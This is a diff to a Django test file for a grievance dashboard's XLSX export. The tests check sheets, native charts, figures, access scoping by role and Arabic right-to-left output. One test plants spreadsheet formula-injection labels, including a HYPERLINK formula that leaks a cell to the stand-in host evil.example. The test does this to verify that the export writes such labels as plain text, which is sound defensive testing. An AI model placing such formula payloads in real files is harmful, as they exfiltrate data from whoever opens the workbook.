@@ -4,23 +4,53 @@ import io
 import re
 import zipfile
 from datetime import timedelta
+from typing import NamedTuple
 from urllib.parse import parse_qs, urlparse
+from xml.etree import ElementTree
 
 import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
-from django.utils import timezone
+from django.utils import timezone, translation
 
-from pmpp.models import Channel, Programme
+from pmpp import roles
+from pmpp.models import Channel, ComplaintCategory, Programme
 from reporting import charts
 from reporting.forms import current_quarter
 from reporting.statistics import Filters, Period, grievance_statistics
+from tests.factories import UserFactory
 
 pytestmark = pytest.mark.django_db
 
 URL = "/rapports/tableau-de-bord/"
+XLSX_URL = f"{URL}export.xlsx"
 CHART_IDS = ["chart-trend", "chart-category", "chart-channel", "chart-sla", "chart-overdue"]
+SHEETS = [
+    "Chiffres clés",
+    "Par mois",
+    "Par programme",
+    "Web - non web",
+    "Par canal",
+    "Par catégorie",
+    "Par région",
+    "Par sexe du plaignant",
+    "Respect du délai de traitement",
+    "En retard",
+]
+# Sheet → type of its native Excel chart; the key figures, regions and sexes have none.
+NATIVE_CHARTS = {
+    "Par mois": "column",
+    "Par programme": "bar",
+    "Web - non web": "pie",
+    "Par canal": "column",
+    "Par catégorie": "bar",
+    "Respect du délai de traitement": "pie",
+    "En retard": "bar",
+}
+_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+_RELATIONSHIP = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
+_CHART = {"c": "http://schemas.openxmlformats.org/drawingml/2006/chart"}
 
 
 def _custom(days: int = 60, **extra) -> dict:
@@ -41,6 +71,85 @@ def _figure(content: str, name: str) -> str:
 
 def _web() -> Channel:
     return Channel.objects.get(code="web-portal")
+
+
+def _postal(days_ago: int) -> dict:
+    return {"channel": Channel.objects.get(code="postal"), "received_at": timezone.now() - timedelta(days=days_ago)}
+
+
+class NativeChart(NamedTuple):
+    kind: str  # column, bar or pie
+    column: str  # the sheet column its values come from
+    points: dict  # label → value, as cached in the chart
+
+
+class Xlsx(NamedTuple):
+    sheets: dict  # sheet name → {row number: cells (text, float or None)}
+    xml: dict  # sheet name → the sheet's XML
+    charts: dict  # name of the sheet a chart draws → NativeChart
+    chart_files: list
+
+
+def _xml(content: bytes | str) -> ElementTree.Element:
+    return ElementTree.fromstring(content)  # noqa: S314 — XML the export itself just wrote, not untrusted input
+
+
+def _cells(root, strings: list[str]) -> dict[int, list]:
+    rows = {}
+    for row in root.iter(f"{_MAIN}row"):
+        cells = {}
+        for cell in row.iter(f"{_MAIN}c"):
+            letters = re.match(r"[A-Z]+", cell.get("r")).group()
+            column = sum((ord(letter) - 64) * 26**power for power, letter in enumerate(reversed(letters))) - 1
+            value = cell.findtext(f"{_MAIN}v")
+            cells[column] = strings[int(value)] if cell.get("t") == "s" else float(value)
+        rows[int(row.get("r"))] = [cells.get(column) for column in range(max(cells) + 1)]
+    return rows
+
+
+def _native_chart(root) -> tuple[str, NativeChart]:
+    plot = root.find("c:chart/c:plotArea", _CHART)
+    drawing = next(element for element in plot if element.tag.endswith("Chart"))
+    direction = drawing.find("c:barDir", _CHART)
+    kind = "pie" if direction is None else {"col": "column", "bar": "bar"}[direction.get("val")]
+    [series] = drawing.findall("c:ser", _CHART)
+    sheet, column = re.fullmatch(
+        r"'?(.+?)'?!\$([A-Z]+)\$\d+(?::.*)?", series.findtext("c:val/c:numRef/c:f", namespaces=_CHART)
+    ).groups()
+    labels = [point.text for point in series.findall("c:cat//c:pt/c:v", _CHART)]
+    values = [float(point.text) for point in series.findall("c:val//c:pt/c:v", _CHART)]
+    return sheet, NativeChart(kind, column, dict(zip(labels, values, strict=True)))
+
+
+def _xlsx(response) -> Xlsx:
+    """A downloaded workbook read from its XML: each sheet's cells, and the native charts."""
+    assert response.status_code == 200
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        strings = [
+            "".join(text.text or "" for text in item.iter(f"{_MAIN}t"))
+            for item in _xml(archive.read("xl/sharedStrings.xml"))
+        ]
+        rels = _xml(archive.read("xl/_rels/workbook.xml.rels"))
+        targets = {rel.get("Id"): rel.get("Target") for rel in rels}
+        sheets, xml = {}, {}
+        for sheet in _xml(archive.read("xl/workbook.xml")).iter(f"{_MAIN}sheet"):
+            name = sheet.get("name")
+            xml[name] = archive.read(f"xl/{targets[sheet.get(_RELATIONSHIP)]}").decode()
+            sheets[name] = _cells(_xml(xml[name]), strings)
+        chart_files = sorted(name for name in archive.namelist() if re.fullmatch(r"xl/charts/chart\d+\.xml", name))
+        charts_by_sheet = dict(_native_chart(_xml(archive.read(name))) for name in chart_files)
+    return Xlsx(sheets, xml, charts_by_sheet, chart_files)
+
+
+def _table(sheet: dict[int, list]) -> dict[str, list]:
+    """The data rows of a sheet (below its title and header, above its note), by their label."""
+    return {cells[0]: cells[1:] for number, cells in sheet.items() if number > 3 and len(cells) > 1}
+
+
+def _first_figure(sheet: dict[int, list]) -> dict[str, float]:
+    """Label → the figure of the second column (requests received in a breakdown), as charted."""
+    return {label: cells[0] for label, cells in _table(sheet).items()}
 
 
 @pytest.fixture
@@ -255,17 +364,152 @@ def test_the_csv_export_has_a_bom_and_the_figures(client, grievances, omar):
     assert any(line.startswith("Par canal,") for line in lines)
 
 
-def test_the_xlsx_export_is_a_workbook(client, grievances, omar):
+def test_the_xlsx_export_has_one_sheet_per_section_with_native_charts(
+    client, grievances, walk, omar, tayssir, payment_category
+):
+    walk.register(**_postal(20))  # past its treatment deadline, still open
+    expected = grievance_statistics(user=omar, period=_custom_period())[None]
+    assert (expected.received, expected.treated, expected.overdue, expected.treated_within_deadline) == (8, 2, 1, 1)
     client.force_login(omar)
-    response = client.get(reverse("reporting:dashboard_export", args=["xlsx"]), _custom())
-    assert response.status_code == 200
-    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
-    with zipfile.ZipFile(io.BytesIO(response.content)) as workbook:
-        sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
-    # Constant-memory mode writes the text inline in the sheet.
-    assert "Tayssir" in sheet
-    assert "Demandes reçues" in sheet
-    assert "<f>" not in sheet
+    response = client.get(XLSX_URL, _custom())
+    today = timezone.localdate()
+    assert response["Content-Disposition"].endswith(
+        f'filename="tableau-de-bord-{today - timedelta(days=60):%Y%m%d}-{today:%Y%m%d}.xlsx"'
+    )
+    xlsx = _xlsx(response)
+    assert list(xlsx.sheets) == SHEETS
+
+    key_figures = xlsx.sheets["Chiffres clés"]
+    assert key_figures[1][0].startswith("Tableau de bord — Du ")
+    figures = _table(key_figures)
+    assert figures["Période"][0].startswith("Du ")
+    assert figures["Demandes reçues"] == [8]
+    assert figures["Traitées"] == [2]
+    assert figures["En retard"] == [1]
+    assert figures["Doublons rattachés"] == [1]
+    assert figures["% traitées dans le délai"] == [50]
+
+    by_programme = xlsx.sheets["Par programme"]
+    assert by_programme[3][:9] == [
+        "Programme", "Demandes reçues", "dont plaintes", "dont demandes hors plainte", "Fondées", "Non fondées",
+        "Traitées", "En cours", "En retard",
+    ]  # fmt: skip
+    # received, complaints, not complaints, founded, unfounded, treated, open, overdue
+    assert _table(by_programme)["Tayssir"][:8] == [8, 8, 0, 2, 1, 2, 6, 1]
+    channels = {channel.code: channel.name for channel in Channel.objects.all()}
+    assert _first_figure(xlsx.sheets["Par canal"]) == {
+        channels["call-centre"]: 4,
+        channels["web-portal"]: 2,
+        channels["postal"]: 2,
+    }
+    assert _first_figure(xlsx.sheets["Web - non web"]) == {"Web": 2, "Non web": 6}
+    category = f"{tayssir.reference_prefix} · {payment_category.name}"
+    assert _table(xlsx.sheets["Par catégorie"])[category][0] == 8
+    assert sum(_first_figure(xlsx.sheets["Par mois"]).values()) == 8
+    assert _table(xlsx.sheets["Respect du délai de traitement"]) == {
+        "Traitées dans le délai": [1],
+        "Traitées en retard": [1],
+    }
+    assert _table(xlsx.sheets["En retard"]) == {"Tayssir": [1]}
+
+    # One native chart per charted section, drawing the column of the figure it shows.
+    assert len(xlsx.chart_files) == len(NATIVE_CHARTS)
+    assert {sheet: chart.kind for sheet, chart in xlsx.charts.items()} == NATIVE_CHARTS
+    assert all(chart.column == "B" for chart in xlsx.charts.values())
+    assert xlsx.charts["Par programme"].points == {"Tayssir": 8}
+    assert xlsx.charts["Web - non web"].points == {"Web": 2, "Non web": 6}
+    assert xlsx.charts["Par canal"].points == {
+        channels["call-centre"]: 4,
+        channels["web-portal"]: 2,
+        channels["postal"]: 2,
+    }
+    assert xlsx.charts["Par catégorie"].points == {category: 8}
+    assert sum(xlsx.charts["Par mois"].points.values()) == 8
+    assert xlsx.charts["Respect du délai de traitement"].points == {
+        "Traitées dans le délai": 1,
+        "Traitées en retard": 1,
+    }
+    assert xlsx.charts["En retard"].points == {"Tayssir": 1}
+    assert not any("<f>" in sheet for sheet in xlsx.xml.values())
+
+
+def test_the_xlsx_export_writes_formula_like_labels_as_text(client, walk, omar, tayssir, phone):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Tayssir")'
+    Programme.objects.filter(pk=tayssir.pk).update(name=formula, name_ar="")
+    Channel.objects.filter(pk=phone.pk).update(name="@SUM(1+1)*cmd", name_ar="")
+    walk.register()
+    walk.register()
+    client.force_login(omar)
+    xlsx = _xlsx(client.get(XLSX_URL, _custom()))
+    by_programme = xlsx.sheets["Par programme"]
+    assert by_programme[4][:2] == ["'" + formula, 2]
+    assert re.search(r'<c r="A4" t="s"><v>\d+</v></c>', xlsx.xml["Par programme"])
+    assert _first_figure(xlsx.sheets["Par canal"]) == {"'@SUM(1+1)*cmd": 2}
+    assert xlsx.charts["Par programme"].points == {"'" + formula: 2}
+    assert xlsx.charts["En retard"].points == {"'" + formula: 0}
+    for name, sheet in xlsx.xml.items():
+        assert "<f>" not in sheet, name
+        assert "HYPERLINK" not in sheet, name  # text lives in the shared strings, never in a cell formula
+
+
+def test_a_ministry_viewer_downloads_only_the_figures_they_may_read(client, walk, omar, tayssir):
+    daam = Programme.objects.get(code="daam")
+    daam_category = ComplaintCategory.objects.filter(programme=daam).order_by("position", "name").first()
+    driss = UserFactory(username="driss", role=roles.MINISTRY_VIEWER, scopes=[("mef-db", "daam")])
+    walk.register()
+    walk.register(channel=_web())
+    walk.sensitive()  # a GBV case: in nobody's dashboard
+    for _ in range(3):
+        walk.register(programme=daam, category=daam_category)
+    period = _custom_period()
+    assert grievance_statistics(user=driss, period=period)[None].received == 3
+    assert grievance_statistics(user=omar, period=period)[None].received == 5
+
+    client.force_login(driss)
+    xlsx = _xlsx(client.get(XLSX_URL, _custom()))
+    assert _table(xlsx.sheets["Chiffres clés"])["Demandes reçues"] == [3]
+    assert _first_figure(xlsx.sheets["Par programme"]) == {daam.name: 3}
+    assert list(_table(xlsx.sheets["Par catégorie"])) == [f"{daam.reference_prefix} · {daam_category.name}"]
+    assert _first_figure(xlsx.sheets["Web - non web"]) == {"Non web": 3}
+    assert xlsx.charts["Par programme"].points == {daam.name: 3}
+    texts = [cell for sheet in xlsx.sheets.values() for row in sheet.values() for cell in row if isinstance(cell, str)]
+    assert not any(tayssir.name in text or text.startswith(f"{tayssir.reference_prefix} ·") for text in texts)
+
+    client.force_login(omar)
+    xlsx = _xlsx(client.get(XLSX_URL, _custom()))
+    assert _table(xlsx.sheets["Chiffres clés"])["Demandes reçues"] == [5]  # the GBV case is left out
+    assert _first_figure(xlsx.sheets["Par programme"]) == {
+        daam.name: 3,
+        tayssir.name: 2,
+    }
+    assert xlsx.charts["Web - non web"].points == {"Web": 1, "Non web": 4}
+
+
+def test_an_agent_of_amo_downloads_a_workbook_without_tayssir(client, grievances, rachid):
+    client.force_login(rachid)
+    xlsx = _xlsx(client.get(XLSX_URL, _custom()))
+    assert _table(xlsx.sheets["Chiffres clés"])["Demandes reçues"] == [0]
+    assert _table(xlsx.sheets["Par programme"]) == {}
+    assert xlsx.sheets["Par programme"][5] == ["Aucune demande pour ces filtres."]  # the note, under a blank row
+    # Only the month and deadline tables have rows to draw, and both are zeros.
+    assert set(xlsx.charts) == {"Par mois", "Respect du délai de traitement"}
+    assert not any("Tayssir" in sheet for sheet in xlsx.xml.values())
+    texts = [cell for sheet in xlsx.sheets.values() for row in sheet.values() for cell in row if isinstance(cell, str)]
+    assert not any("Tayssir" in text for text in texts)
+
+
+def test_the_xlsx_export_speaks_arabic_right_to_left(client, grievances, omar, tayssir):
+    client.force_login(omar)
+    client.post(reverse("set_language"), {"language": "ar", "next": URL})
+    xlsx = _xlsx(client.get(XLSX_URL, _custom()))
+    with translation.override("ar"):
+        names = [translation.gettext(name) for name in ("Chiffres clés", "Par mois", "Par programme")]
+    assert names[0] != "Chiffres clés"
+    assert list(xlsx.sheets)[:3] == names
+    by_programme = names[2]
+    assert all('rightToLeft="1"' in sheet for sheet in xlsx.xml.values())
+    assert _table(xlsx.sheets[by_programme])[tayssir.name_ar][0] == 7
+    assert xlsx.charts[by_programme].points == {tayssir.name_ar: 7}
 
 
 def test_an_unknown_export_format_is_not_found(client, omar):
@@ -332,3 +576,11 @@ def test_the_sla_chart_writes_shares():
     svg = charts.sla_chart(on_time=3, late=1, chart_id="s", title="Délais")
     assert "3 (75 %)" in svg
     assert "1 (25 %)" in svg
+
+
+def test_categories_are_named_in_arabic_when_the_user_works_in_arabic(client, grievances, omar, payment_category):
+    client.force_login(omar)
+    client.post(reverse("set_language"), {"language": "ar", "next": URL})
+    page = client.get(URL, _custom()).content.decode()
+    assert f"TAY · {payment_category.name_ar}" in page
+    assert f"TAY · {payment_category.name}" not in page
